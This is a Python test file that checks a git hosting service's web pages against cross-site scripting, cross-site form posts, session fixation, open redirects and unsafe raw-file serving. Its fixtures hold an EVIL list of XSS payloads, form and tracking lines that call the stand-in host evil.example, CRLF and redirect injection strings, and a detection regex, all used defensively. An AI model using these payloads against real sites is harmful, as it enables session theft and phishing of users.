"""Attacks on the pages: scripts in people's content, forms of other sites, sessions, redirects."""

from __future__ import annotations

import re
from collections.abc import Iterator
from urllib.parse import urlsplit

import pytest

from tests.apiclient import Api, Reply
from tests.gitkit import until
from tests.hubkit import Repo, World
from tests.hubproc import Hub
from tests.lfskit import Big, client
from tests.webkit import PASSWORD, Browser, cookies, hidden, sign_in

# Each would run, load, send or imitate something if it were handed on as it is.
EVIL = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)></svg>",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt&colon;alert(1))",
    "![x](data:text/html,<script>alert(1)</script>)",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<form action='https://evil.example'><input name=password></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href='https://evil.example/'>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<div style='position:fixed;inset:0;background:url(https://evil.example)'>x</div>",
    "<object data='https://evil.example'></object><embed src=x>",
    "<img src='https://evil.example/track.png'>",
    "<button formaction='javascript:alert(1)'>x</button>",
]
# In a tag; as text they are harmless.
FORBIDDEN = re.compile(
    r"alert\(1\)|^<(?:script|iframe|object|embed|base|meta|noscript|math|style|form|input)\b"
    r"|\son[a-z]+\s*=|javascript:|srcdoc|formaction|\sstyle=|evil\.example",
    re.IGNORECASE,
)


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
    folder = tmp_path_factory.mktemp("pages")
    with Hub(folder / "data", shutdown_grace=2) as hub:
        made = World.populate(hub, folder)
        hub.admin("user", "passwd", "ada", "--password-stdin", stdin=PASSWORD + "\n")
        yield made


@pytest.fixture(scope="module")
def ada(world: World) -> Browser:
    return Browser(world, cookies(sign_in(world)))


def _article(page: Reply) -> str:
    """The part of a page that people's content makes."""
    text = page.body.decode()
    return text[text.index("<main") : text.index("</main>")]


@pytest.fixture(scope="module")
def evil(world: World) -> Repo:
    """A repository whose every text is an attack."""
    repo, work = world.repo(), world.work()
    name = "<script>alert(1)<>.txt".replace("/", "")
    work.commit({"README.md": "\n\n".join(EVIL), name: EVIL[0], "page.html": EVIL[0]})
    work.commit({"x.svg": "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"})
    work.git("commit", "-q", "--allow-empty", "-m", EVIL[0])
    assert work.push(repo.http).returncode == 0
    return repo


def test_T64_nothing_in_a_readme_runs_or_loads(world: World, evil: Repo) -> None:
    page = Browser(world, "").get(f"/{evil.path}")
    assert page.status == 200
    tags = re.findall(r"<[a-zA-Z][^>]*>", _article(page))
    assert len(tags) > len(EVIL) / 2
    assert [tag for tag in tags if FORBIDDEN.search(tag)] == []


@pytest.mark.parametrize("rest", ["/tree/main", "/commits/main", "/blob/main/page.html", ""])
def test_T64_names_and_messages_are_text(world: World, evil: Repo, rest: str) -> None:
    page = Browser(world, "").get(f"/{evil.path}{rest}")
    assert page.status == 200
    assert "<script>alert" not in page.body.decode()
    policy = page.headers["Content-Security-Policy"]
    assert "'unsafe-inline'" not in policy
    assert "'unsafe-eval'" not in policy


def test_T64_what_a_stranger_asks_for_is_not_echoed_as_a_page(world: World) -> None:
    for path in ("/%3Cscript%3Ealert(1)%3C/script%3E/x", "/?q=%3Cscript%3Ealert(1)%3C/script%3E"):
        page = Browser(world, "").get(path)
        assert "<script>alert" not in page.body.decode()


@pytest.mark.parametrize("name", ["page.html", "x.svg", "README.md"])
def test_T65_a_raw_file_never_is_a_page_of_ours(world: World, evil: Repo, name: str) -> None:
    raw = Browser(world, "").get(f"/{evil.path}/raw/main/{name}")
    assert raw.status == 200
    saved = raw.headers.get("Content-Disposition", "").startswith("attachment")
    assert saved or raw.headers["Content-Type"].startswith("text/plain")
    assert raw.headers["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in raw.headers["Content-Security-Policy"]


def test_T66_notebooks_and_diagrams_are_shown_as_text(world: World) -> None:
    repo, work = world.repo(), world.work()
    output = '{"output_type": "display_data", "data": {"text/html": "<script>alert(1)</script>"}}'
    cell = f'{{"cell_type": "code", "source": "", "outputs": [{output}]}}'
    work.commit(
        {
            "n.ipynb": f'{{"cells": [{cell}], "nbformat": 4}}',
            "README.md": "```mermaid\ngraph TD; A-->B; click A 'javascript:alert(1)'\n```\n\n"
            "$\\href{javascript:alert(1)}{x}$\n",
        }
    )
    assert work.push(repo.http).returncode == 0
    for path in (f"/{repo.path}", f"/{repo.path}/blob/main/n.ipynb"):
        page = Browser(world, "").get(path)
        assert page.status == 200
        assert "<script>alert" not in page.body.decode()
        assert not re.search(r"href=.?javascript", page.body.decode())


FORMS = ["/-/account", "/-/account/tokens", "/-/account/keys", "/-/new", "/-/logout"]


@pytest.mark.parametrize("path", FORMS)
def test_T67_forms_of_other_sites_do_nothing(world: World, ada: Browser, path: str) -> None:
    good = hidden(ada.get("/-/account"))
    for form, headers in (
        ({}, {}),
        ({"csrf": "x" * 88}, {}),
        (good, {"Origin": "https://evil.example"}),
        (good, {"Origin": "null"}),
        (good, {"Sec-Fetch-Site": "cross-site"}),
        (good, {"Content-Type": "text/plain"}),
    ):
        if path == "/-/logout" and form is good and not headers:
            continue
        refused = ada.post(path, {**form, "name": "stolen"}, **headers)
        assert refused.status in {400, 403, 415}, (form, headers, refused.status)
    assert ada.get("/-/account").status == 200
    assert world.sql("SELECT count(*) FROM tokens WHERE name = 'stolen'") == [(0,)]


def test_T67_nobody_is_signed_in_unawares_nor_framed(world: World) -> None:
    nobody = Browser(world, "")
    form = {"name": "ada", "password": PASSWORD}
    unasked = nobody.post("/-/login", form)
    assert "hubd=" not in cookies(unasked)
    foreign = {**form, **hidden(nobody.get("/-/login"))}
    assert "hubd=" not in cookies(nobody.post("/-/login", foreign))
    page = nobody.get("/-/login")
    assert "frame-ancestors 'none'" in page.headers["Content-Security-Policy"]
    assert "Access-Control-Allow-Origin" not in page.headers


def test_T68_a_session_is_new_flagged_listed_and_ended(world: World) -> None:
    first = sign_in(world)
    line = next(c for c in first.headers.get_all("Set-Cookie", []) if c.startswith("hubd="))
    assert "HttpOnly" in line
    assert "SameSite=Lax" in line
    one = Browser(world, cookies(first))
    # A cookie that somebody else planted is not the one that becomes signed in.
    planted = Browser(world, "hubd=planted")
    page = planted.get("/-/login")
    form = {**hidden(page), "name": "ada", "password": PASSWORD}
    done = Browser(world, cookies(page) + "; hubd=planted").post("/-/login", form)
    assert "hubd=planted" not in cookies(done)
    other = Browser(world, cookies(done))
    assert other.get("/-/account").status == one.get("/-/account").status == 200
    fields = hidden(one.get("/-/account/password"))
    changed = one.post(
        "/-/account/password",
        {**fields, "old": PASSWORD, "new": PASSWORD + "!", "again": PASSWORD + "!"},
    )
    assert changed.status in {302, 303}, changed.body
    assert other.get("/-/account").status in {302, 303}
    world.hub.admin("user", "passwd", "ada", "--password-stdin", stdin=PASSWORD + "\n")


@pytest.mark.parametrize(
    "target",
    [
        "https://evil.example/",
        "//evil.example/",
        "/\\evil.example",
        "\\\\evil.example",
        "/%0d%0aSet-Cookie:x=1",
        "/\r\nSet-Cookie: x=1",
        "javascript:alert(1)",
        "/\t/evil.example",
    ],
)
def test_T69_signing_in_leads_to_our_own_pages(world: World, target: str) -> None:
    done = sign_in(world, next=target)
    assert done.status in {302, 303}
    where = urlsplit(done.headers["Location"])
    assert where.netloc in {"", urlsplit(world.hub.http).netloc}
    assert not done.headers["Location"].startswith(("//", "/\\"))
    assert "x=1" not in cookies(done)


def test_T70_a_card_can_imitate_no_form_and_track_nobody(world: World, evil: Repo) -> None:
    article = _article(Browser(world, "").get(f"/{evil.path}"))
    assert "<input name=password" not in article
    assert "evil.example'>" not in re.sub(r"<code.*?</code>", "", article, flags=re.DOTALL)
    for link in re.findall(r'<a [^>]*href="https?://[^"]*"[^>]*>', article):
        assert "noopener" in link or "target" not in link


@pytest.mark.parametrize(
    "text",
    ["[" * 60_000, "> " * 60_000, "*a " * 60_000, "`" * 60_000, "<" * 60_000, "![" * 30_000],
    ids=["brackets", "quotes", "stars", "ticks", "angles", "images"],
)
def test_T71_text_made_to_be_slow_is_shown_all_the_same(world: World, text: str) -> None:
    repo, work = world.repo(), world.work()
    work.commit({"README.md": text, "a.py": text})
    assert work.push(repo.http).returncode == 0
    assert Browser(world, "").get(f"/{repo.path}").status == 200
    assert Browser(world, "").get(f"/{repo.path}/blob/main/a.py").status == 200
    assert Api(world.hub.http).send("GET", "/healthz").status == 200


def test_T13_what_became_private_is_gone_at_once(world: World) -> None:
    repo, work, big = world.repo("public"), world.work(), Big.random()
    client(repo).upload(big)
    work.commit({"m.bin": big.pointer})
    assert work.push(repo.http).returncode == 0
    bob = client(repo, "bob")
    href = bob.action("download", big)["href"]
    assert bob.send("GET", href).status == 200
    assert bob.batch("download", big)[big.oid]["actions"]["download"]["expires_in"] <= 900
    api = Api(world.hub.http, world.tokens["ada"])
    changed = api.patch(f"/repos/model/{repo.name}", {"visibility": "private"})
    assert changed.status == 200
    nobody = Browser(world, "")
    assert nobody.get(f"/{repo.path}").status == 404
    refused = bob.call("objects/batch", {"operation": "download", "objects": [big.named]})
    assert refused.status == 404
    assert world.work("bob").git("ls-remote", world.http(repo.path, "bob"), check=False).returncode


def test_T13_a_user_who_was_removed_is_out_at_once(world: World) -> None:
    world.add_user("eve")
    repo = world.repo(owner="eve")
    token = Api(world.hub.http, world.tokens["eve"])
    assert token.get("/me").status == 200
    world.hub.admin("user", "disable", "eve")
    assert token.get("/me").status == 401
    until(lambda: world.work("eve").git("ls-remote", repo.ssh, check=False).returncode != 0)
